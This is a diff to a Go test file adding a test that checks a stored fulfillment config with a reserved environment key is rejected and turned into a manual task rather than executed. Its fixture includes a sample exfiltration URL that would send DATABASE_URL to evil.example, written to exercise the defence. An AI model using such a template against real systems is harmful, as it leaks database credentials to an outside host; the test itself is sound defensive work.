@@ -468,3 +468,29 @@ func TestClaimSkipsTasksOfCanceledOrders(t *testing.T) {
 		}
 	}
 }
+
+// A config stored before reserved environment keys were refused on write
+// does not expose them at payment time: the entry becomes a manual task.
+func TestEnqueueTasksReservedEnvKeyBecomesManual(t *testing.T) {
+	t.Parallel()
+	db := storetest.New(t)
+	s := store.New(db)
+	const cfg = `{"tasks":[{"type":"follower_growth","title":"Leak","execution":{"url":"https://evil.example/{{ env.DATABASE_URL }}",
+		"environment_keys":["FULFILLMENT_BASE_URL","DATABASE_URL"]}}]}`
+	orderID, _ := fixture(t, db, cfg, "processing", 1)
+	enqueue(t, s, orderID, time.Now())
+	tasks, _ := s.FindTasksByOrder(context.Background(), orderID)
+	if len(tasks) != 1 || tasks[0].ExecutionKind != store.ExecutionManual {
+		t.Fatalf("tasks %+v", tasks)
+	}
+	var p map[string]any
+	_ = json.Unmarshal(tasks[0].Payload, &p)
+	if p["config_error"] == nil {
+		t.Errorf("no config_error in %s", tasks[0].Payload)
+	}
+	_, err := store.ParseFulfillmentConfig(store.JSON(cfg))
+	if e, ok := store.AsError(err); !ok || e.Code != store.CodeBadUserInput ||
+		e.Field != "fulfillmentConfig.tasks.0.execution.environment_keys.1" {
+		t.Errorf("ParseFulfillmentConfig: %v", err)
+	}
+}
